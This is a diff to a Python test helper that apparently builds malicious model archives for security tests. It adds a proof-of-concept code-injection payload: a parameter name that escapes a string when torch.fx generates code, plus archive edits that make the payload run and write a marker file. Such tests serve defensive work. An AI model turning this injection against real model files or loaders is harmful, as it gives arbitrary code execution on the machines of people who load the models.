@@ -8,6 +8,7 @@ import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+import safetensors.torch
 import torch
 from torch import nn
 
@@ -108,3 +109,39 @@ def attack_sympy(marker: Path) -> Callable[[dict[str, bytes]], None]:
 
 
 ATTACKS = {"sample_inputs": attack_sample_inputs, "use_pickle": attack_use_pickle, "sympy": attack_sympy}
+
+
+#: a parameter name that fx pastes into ``forward`` as ``getattr(self.fc2, "<name>")``: the quote closes the
+#: string, the payload runs on every call, and the call still returns the real weight
+EVIL_SEGMENT = ('x") if open({marker!r}, "w") and 0 else getattr(getattr(self, "fc2"), "_parameters")'
+                '[max(getattr(getattr(self, "fc2"), "_parameters"))]#')
+
+
+def rename_everywhere(inner: dict[str, bytes], old: str, new: str) -> None:
+    """Rename ``old`` to ``new`` in every JSON member of a torch.export archive (keys and values)."""
+    for n, b in list(inner.items()):
+        if n.endswith(".json"):
+            inner[n] = b.decode().replace(json.dumps(old), json.dumps(new)).encode()
+
+
+def attack_name(marker: Path, old: str = "fc2.weight") -> Callable[[dict[str, bytes]], None]:
+    """Route 4 (issue 19): a parameter name holding Python source, pasted into generated code by torch.fx."""
+    def edit(inner: dict[str, bytes]) -> None:
+        rename_everywhere(inner, old, old.rsplit(".", 1)[0] + "." + EVIL_SEGMENT.format(marker=str(marker)))
+    return edit
+
+
+
+def name_attack_lrc(lrc_file: Path, out: Path, marker: Path) -> Path:
+    """A whole lrc file whose ``fc2`` weight name holds the payload (its adapter record dropped, so the
+    manifest still fits the renamed graph)."""
+    edit_program(lrc_file, out, attack_name(marker))
+    outer = members(out.read_bytes())
+    manifest = json.loads(outer["manifest.json"])
+    manifest["adapters"] = [r for r in manifest["adapters"] if r["site"] != "fc2"]
+    outer["manifest.json"] = json.dumps(manifest).encode()
+    kept = {k: v for k, v in safetensors.torch.load(outer["adapters.safetensors"]).items() if ".fc2" not in k
+            and not k.startswith("fc2")}
+    outer["adapters.safetensors"] = safetensors.torch.save(kept)
+    out.write_bytes(zip_bytes(outer))
+    return out
